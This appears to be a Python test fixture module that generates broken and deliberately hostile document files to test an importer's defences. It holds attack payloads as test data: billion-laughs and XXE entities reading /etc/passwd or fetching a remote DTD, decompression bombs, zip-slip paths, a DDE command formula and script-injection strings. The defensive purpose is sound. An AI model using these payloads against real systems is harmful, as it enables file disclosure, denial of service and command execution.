"""Files that are broken, or made to do harm; each with what is to be said of it.

A file whose sentence is "" is odd but readable: it must be read, and do nothing else.
"""

import io
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterator
from typing import Any

from PIL import Image
from reportlab.lib.utils import ImageReader

from tests.actions.importing.formats import excel_files, pdf_files, word_files

File = tuple[str, Callable[[], bytes], str]

ROW = ("1", "Do it", "Police", "Mar 15")
MEGABYTE = 1024 * 1024
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(
        f'<!ENTITY {name} "{f"&{before};" * 10}">'
        for before, name in zip("abcdefghi", "bcdefghij", strict=True)
    )
    + "]>"
)
OUTSIDE = '<!DOCTYPE x [<!ENTITY j SYSTEM "file:///etc/passwd">]>'
FAR = '<!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd" [<!ENTITY % p SYSTEM "http://192.0.2.1/">%p;]>'


def word() -> bytes:
    """A good Word file."""
    return word_files.saved(word_files.plan(ROW))


def excel() -> bytes:
    """A good Excel file."""
    return excel_files.plan(ROW)


def pdf() -> bytes:
    """A good PDF."""
    return pdf_files.plan(ROW)


def changed(
    data: bytes, parts: dict[str, Any], *, drop: tuple[str, ...] = (), method: int = 8
) -> bytes:
    """A zip with other parts: bytes, or a function of the old ones; new ones are added."""
    file = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(file, "w", method) as new:
        for name in old.namelist():
            if name in drop:
                continue
            part = parts.get(name, old.read(name))
            new.writestr(name, part(old.read(name)) if callable(part) else part)
        for name in set(parts) - set(old.namelist()):
            new.writestr(name, parts[name])
    return file.getvalue()


def with_doctype(doctype: str) -> Callable[[bytes], bytes]:
    """The part with a definition before its root, and its last entity used."""

    def change(part: bytes) -> bytes:
        head, mark, rest = part.partition(b"?>")
        rest = rest.replace(b"Do it", b"&j;") if b"Do it" in rest else rest
        return head + mark + doctype.encode() + rest

    return change


def document_of(body: str) -> bytes:
    """A Word file with this body."""
    part = f"<?xml version='1.0'?><w:document {W}><w:body>{body}</w:body></w:document>"
    return changed(word(), {"word/document.xml": part})


def sheet_of(rows: str, *, before: str = "", after: str = "") -> bytes:
    """An Excel file with these rows."""
    part = (
        f"<?xml version='1.0'?><worksheet {S}>{before}<sheetData>{rows}</sheetData>{after}"
        "</worksheet>"
    )
    return changed(excel(), {"xl/worksheets/sheet1.xml": part})


def forged(data: bytes, part: str, claimed: int) -> bytes:
    """A zip that says of a part that it is so large when it is unpacked."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        real = archive.getinfo(part).file_size
    name = part.encode()
    changed_bytes = bytearray(data)
    for mark, size_at, name_at in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        place = changed_bytes.find(mark)
        while place >= 0:
            if changed_bytes[place + name_at : place + name_at + len(name)] == name:
                found = struct.unpack_from("<I", changed_bytes, place + size_at)[0]
                if found == real:
                    struct.pack_into("<I", changed_bytes, place + size_at, claimed)
            place = changed_bytes.find(mark, place + 4)
    return bytes(changed_bytes)


def locked_zip(data: bytes) -> bytes:
    """A zip whose parts say that they are encrypted."""
    found = bytearray(data)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = found.find(mark)
        while at >= 0:
            found[at + place] |= 1
            at = found.find(mark, at + 4)
    return bytes(found)


def ole(*streams: str) -> bytes:
    """Something like a file of Office's older container."""
    names = b"".join(stream.encode("utf-16-le").ljust(128, b"\x00") for stream in streams)
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + names


def zipped(parts: dict[str, bytes | str]) -> bytes:
    """A zip of these parts."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return file.getvalue()


def scan() -> bytes:
    """A PDF of a picture alone."""
    picture = ImageReader(Image.new("RGB", (300, 200), "white"))
    return pdf_files.drawn(lambda canvas: canvas.drawImage(picture, 0, 0, 800, 500))


def padded(data: bytes, part: str, megabytes: int) -> bytes:
    """A zip one of whose parts has so many spaces before its end; made a piece at a time."""
    file = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(file, "w", 8) as new:
        for name in old.namelist():
            content = old.read(name)
            end = content.rindex(b"</") if name == part else len(content)
            with new.open(name, "w") as written:
                written.write(content[:end])
                for _ in range(megabytes if name == part else 0):
                    written.write(b" " * MEGABYTE)
                written.write(content[end:])
    return file.getvalue()


def word_bomb(megabytes: int) -> bytes:
    """A Word file whose body unpacks to so much."""
    return padded(word(), "word/document.xml", megabytes)


def excel_bomb(megabytes: int) -> bytes:
    """An Excel file whose sheet unpacks to so much."""
    return padded(excel(), "xl/worksheets/sheet1.xml", megabytes)


def pdf_bomb(megabytes: int) -> bytes:
    """A PDF whose page unpacks to so much."""
    packer, piece = zlib.compressobj(9), b"(a) Tj " * (MEGABYTE // 7)
    packed = b"".join(packer.compress(piece) for _ in range(megabytes))
    stream = zlib.compress(packed + packer.flush(), 9)
    return pdf_of(
        b"<</Length %d/Filter[/FlateDecode/FlateDecode]>>stream\n%s\nendstream"
        % (len(stream), stream)
    )


def pdf_of(content: bytes, *, pages: bytes = b"<</Type/Pages/Kids[3 0 R]/Count 1>>") -> bytes:
    """A small PDF written by hand."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        pages,
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources 6 0 R>>",
        content,
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        b"<</Font<</F1 5 0 R>>>>",
    ]
    data, places = b"%PDF-1.4\n", []
    for number, item in enumerate(objects, start=1):
        places.append(len(data))
        data += b"%d 0 obj %s endobj\n" % (number, item)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    start = len(data)
    data += b"xref\n0 %d\n0000000000 65535 f \n%s" % (len(objects) + 1, table)
    return data + b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (
        len(objects) + 1,
        start,
    )


def all_files() -> Iterator[File]:
    """Every one of them: what it is, how it is made, and words of the sentence that it gets."""
    yield from _broken()
    yield from _mislabelled()
    yield from _bombs()
    yield from _entities()
    yield from _zips()
    yield from _too_much()
    yield from _odd()


def _broken() -> Iterator[File]:
    yield "empty", lambda: b"", "is empty"
    yield "blank", lambda: b" \r\n\t", "is empty"
    yield "word cut short", lambda: word()[:-400], "damaged"
    yield "word cut in half", lambda: word()[: len(word()) // 2], "damaged"
    yield "excel cut short", lambda: excel()[:1000], "damaged"
    yield "pdf cut in half", lambda: pdf()[: len(pdf()) // 2], "damaged"
    yield "pdf of its first line", lambda: b"%PDF-1.7\n", "damaged"
    yield (
        "word with letters turned",
        lambda: word().replace(b"PK\x01\x02", b"PK\x01\x03"),
        "damaged",
    )
    broken = changed(word(), {"word/document.xml": b"<w:document><w:body>"})
    yield "word with broken xml", lambda: broken, "damaged"
    yield "word without a body", lambda: changed(word(), {"word/document.xml": "<a/>"}), "damaged"
    sheet = "xl/worksheets/sheet1.xml"
    yield "excel without its sheet", lambda: changed(excel(), {}, drop=(sheet,)), "damaged"
    yield "excel without styles", lambda: changed(excel(), {}, drop=("xl/styles.xml",)), ""
    numbers = sheet_of('<row r="x"><c r="!!" t="s"><v>99999</v></c><c t="n"><v>1e999</v></c></row>')
    yield "excel with places that are none", lambda: numbers, ""
    yield "word without words", lambda: document_of(""), "holds no words"
    yield "excel without words", lambda: sheet_of(""), "holds no words"
    yield "pdf without words", lambda: pdf_of(b"<</Length 0>>stream\n\nendstream"), "holds no words"
    turns = pdf_of(b"<<>>", pages=b"<</Type/Pages/Kids[2 0 R]/Count 1>>")
    yield "pdf whose pages turn in a circle", lambda: turns, "."


def _mislabelled() -> Iterator[File]:
    picture = io.BytesIO()
    Image.new("RGB", (10, 10)).save(picture, "PNG")
    yield "a picture", picture.getvalue, "is a picture"
    yield "a jpeg", lambda: b"\xff\xd8\xff\xe0" + b"\x00" * 99, "is a picture"
    yield "an old word file", lambda: ole("Root Entry", "WordDocument"), "old Word file"
    yield "an old excel file", lambda: ole("Root Entry", "Workbook"), "old Excel file"
    yield "a locked office file", lambda: ole("EncryptionInfo", "EncryptedPackage"), "password"
    yield "another ole file", lambda: ole("Root Entry"), "old Office file"
    yield "rich text", lambda: b"{\\rtf1\\ansi plan}", "rich text"
    odt = zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<a/>"})
    yield "an odt", lambda: odt, "OpenDocument"
    yield "a zip of files", lambda: zipped({"plan.docx": word()}), "archive"
    yield "a presentation", lambda: zipped({"ppt/presentation.xml": "<a/>"}), "presentation"
    yield "a binary excel file", lambda: zipped({"xl/workbook.bin": b"\x00"}), "binary Excel"
    yield "a program", lambda: b"\x7fELF\x02\x01" + b"\x00" * 60, "program"
    yield "random bytes", lambda: bytes(range(256)) * 40, "no document that can be read"
    yield "xml", lambda: b"<?xml version='1.0'?><plan/>", "is XML"
    yield "a drawing", lambda: b"<svg xmlns='x'><script>alert(1)</script></svg>", "is XML"
    locked = pdf_files.drawn(lambda canvas: canvas.drawString(9, 9, "x"), encrypt="secret")
    yield "a locked pdf", lambda: locked, "password"
    yield "a scan", scan, "is a scan"


def many_sheets() -> bytes:
    """An Excel file with ten sheets more, each large and none too large by itself."""
    relation = '<Relationship Id="x%d" Type="x/worksheet" Target="worksheets/sheet%d.xml"/>'
    sheet = '<sheet name="s%d" sheetId="%d" r:id="x%d"/>'
    numbers = range(2, 12)
    spaces = f"<worksheet {S}><sheetData/>{' ' * 8 * MEGABYTE}</worksheet>"
    more: dict[str, Any] = {f"xl/worksheets/sheet{n}.xml": spaces for n in numbers}
    relations = "".join(relation % (n, n) for n in numbers).encode()
    sheets = "".join(sheet % (n, n, n) for n in numbers).encode()
    more["xl/_rels/workbook.xml.rels"] = lambda old: old.replace(
        b"</Relationships>", relations + b"</Relationships>"
    )
    more["xl/workbook.xml"] = lambda old: old.replace(b"</sheets>", sheets + b"</sheets>")
    return changed(excel(), more)


def _bombs() -> Iterator[File]:
    yield "a word bomb", lambda: word_bomb(200), "unpacks to far more"
    yield "an excel bomb", lambda: excel_bomb(200), "unpacks to far more"
    lying = "word/document.xml"
    yield "a word bomb that lies", lambda: forged(word_bomb(60), lying, 1000), "damaged"
    yield "a pdf bomb", lambda: pdf_bomb(400), "."
    unread = {"xl/worksheets/sheet9.xml": b" " * 60 * MEGABYTE}
    yield "a bomb that nothing points to", lambda: changed(excel(), unread), ""
    yield "many sheets together", many_sheets, "unpacks to far more"


def _entities() -> Iterator[File]:
    body, sheet = "word/document.xml", "xl/worksheets/sheet1.xml"
    strings = "xl/sharedStrings.xml"
    yield "laughs in word", lambda: changed(word(), {body: with_doctype(LAUGHS)}), "entities"
    yield "laughs in excel", lambda: changed(excel(), {strings: with_doctype(LAUGHS)}), "entities"
    yield "a file from outside", lambda: changed(word(), {body: with_doctype(OUTSIDE)}), "entities"
    yield (
        "an address from outside",
        lambda: changed(excel(), {sheet: with_doctype(FAR)}),
        "entities",
    )
    styles = {"word/styles.xml": with_doctype(LAUGHS)}
    yield "laughs in styles", lambda: changed(word(), styles), "entities"
    rels = {"word/_rels/document.xml.rels": with_doctype(LAUGHS)}
    yield "laughs in relations", lambda: changed(word(), rels), "entities"
    wide = {
        body: lambda old: (
            with_doctype(LAUGHS)(old)
            .decode()
            .replace("encoding='UTF-8'", "encoding='UTF-16'")
            .replace('encoding="UTF-8"', 'encoding="UTF-16"')
            .encode("utf-16")
        )
    }
    yield "laughs in another encoding", lambda: changed(word(), wide), "entities"
    page = b"<!DOCTYPE html [<!ENTITY a 'x'>]><table><tr><td>a&a;</td></tr></table>"
    yield "entities in a web page", lambda: page, ""


def doubled() -> bytes:
    """A zip with two parts of one name."""
    file = io.BytesIO(word())
    with zipfile.ZipFile(file, "a") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        archive.writestr("word/document.xml", "<a/>")
    return file.getvalue()


def _zips() -> Iterator[File]:
    yield "a part outside", lambda: changed(word(), {"../../../etc/cron.d/x": "x"}), "outside of it"
    yield "a part at the root", lambda: changed(word(), {"/etc/passwd": "x"}), "outside of it"
    yield "a part of windows", lambda: changed(word(), {"C:\\x.exe": "x"}), "outside of it"
    yield "a locked zip", lambda: locked_zip(word()), "password"
    many = {f"word/media/{n}.txt": "" for n in range(2_100)}
    yield "thousands of parts", lambda: changed(word(), many), "more than 2,000 parts"
    yield "another way of packing", lambda: changed(word(), {}, method=zipfile.ZIP_LZMA), "damaged"
    yield "a part twice", doubled, "damaged"
    rels = lambda old: old.replace(  # noqa: E731 -- said once
        b'Target="word/document.xml"', b'Target="../../etc/passwd"'
    )
    yield "a relation outside", lambda: changed(word(), {"_rels/.rels": rels}), ""


def million_rows() -> bytes:
    """A sheet that somebody formatted to its very end."""
    rows = "".join(f'<row r="{n}"><c r="A{n}" s="0"/></row>' for n in range(2, 500_000))
    return sheet_of(f'<row r="1"><c r="A1" t="str"><v>a</v></c></row>{rows}')


def _too_much() -> Iterator[File]:
    million = sheet_of(
        '<row r="1"><c r="A1" t="str"><v>a</v></c></row>', before='<dimension ref="A1:XFD1048576"/>'
    )
    yield "a sheet that claims a million rows", lambda: million, ""
    rows = '<row><c t="str"><v>a</v></c></row>' * 6_000
    yield "a sheet with too many rows", lambda: sheet_of(rows), "more than 5,000 rows"
    yield "a million rows without words", million_rows, ""
    merged = '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>' * 2
    one = '<row r="1"><c r="A1" t="str"><v>a</v></c></row>'
    yield "a sheet merged into one", lambda: sheet_of(one, after=merged), ""
    cells = "".join('<c t="str"><v>a</v></c>' for _ in range(300))
    yield "too many columns", lambda: sheet_of(f"<row>{cells}</row>"), "more than 250 columns"
    large = '<row><c t="inlineStr"><is><t>%s</t></is></c></row>' % ("a" * MEGABYTE)
    yield "a cell of a megabyte", lambda: sheet_of(large), "more than 50,000 characters"
    paragraph = f"<w:p><w:r><w:t>{'a' * MEGABYTE}</w:t></w:r></w:p>"
    yield "a paragraph of a megabyte", lambda: document_of(paragraph), "more than 50,000 characters"
    yield "a line of a megabyte", lambda: b"a" * MEGABYTE, "more than 50,000 characters"
    yield "a csv of a million rows", lambda: b"a,b,c\n" * 1_000_000, "more than 5,000 rows"
    yield "a csv of a million columns", lambda: b"a," * 1_000_000 + b"\n" + b"a," * 9, "."
    deep = "<w:tbl><w:tr><w:tc>" * 3_000 + "</w:tc></w:tr></w:tbl>" * 3_000
    yield "tables within tables", lambda: document_of(deep), "too deep"
    web = b"<table>" + b"<tr><td colspan=9999999 rowspan=99999>a" * 4_000
    yield "a web page that spans all", lambda: web, "."
    yield "a web page without an end", lambda: b"<table>" + b"<div>" * 500_000 + b"a", ""
    yield "brackets without an end", lambda: b"<table><tr><td>" + b"<" * 500_000, "."
    pages = pdf_files.drawn(_many_pages)
    yield "too many pages", lambda: pages, "more than 120 pages"
    lines = pdf_files.drawn(_many_lines)
    yield "a page of thousands of lines", lambda: lines, "."


def _many_pages(canvas: Any) -> None:
    for number in range(130):
        canvas.drawString(60, 400, f"Words of page {number}")
        canvas.showPage()


def _many_lines(canvas: Any) -> None:
    for place in range(1_500):
        canvas.line(0, place / 3, 800, place / 3)
        canvas.line(place / 2, 0, place / 2, 600)
    canvas.drawString(60, 400, "Words")


def _odd() -> Iterator[File]:
    """What looks dangerous and is only words."""
    script = "<script>alert(1)</script>"
    yield "scripts in text", f"Ref\tAction\n1\t{script}\n".encode, ""
    yield "scripts in word", lambda: word_files.saved(word_files.plan(("1", script, "x", "y"))), ""
    yield "scripts in excel", lambda: excel_files.plan(("1", script, "x", "y")), ""
    formula = ("1", "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)")
    yield "formulas in csv", lambda: ",".join(("a,b,c,d\n1", *formula)).encode(), ""
    text = "".join(f'<c t="str"><f>{words}</f><v>{words}</v></c>' for words in ("1+1", "A1"))
    yield "formulas in excel", lambda: sheet_of(f"<row>{text}</row>"), ""
    yield (
        "nul in text",
        lambda: b"Plan\x00of action\nwith\x00 nothing",
        "no document that can be read",
    )
    yield (
        "nul at the end",
        lambda: b"Plan of action\n" * 50 + b"\x00",
        "no document that can be read",
    )
    yield "a wrong mark", lambda: b"\xff\xfePlan of action", "."
    yield "utf-8 that breaks off", lambda: "Café – plan".encode()[:-5] + b"\xe2\x80", "."
    macros = changed(excel(), {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\x00" * 99})
    yield "macros", lambda: macros, ""
    link = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r1" Type="x/externalLinkPath" Target="http://192.0.2.1/x.xlsx" '
        'TargetMode="External"/></Relationships>'
    )
    parts = {
        "xl/externalLinks/externalLink1.xml": "<externalLink/>",
        "xl/externalLinks/_rels/externalLink1.xml.rels": link,
    }
    yield "links to other files", lambda: changed(excel(), parts), ""
    template = link.replace("externalLinkPath", "attachedTemplate")
    remote = {"word/_rels/settings.xml.rels": template}
    yield "a template from afar", lambda: changed(word(), remote), ""
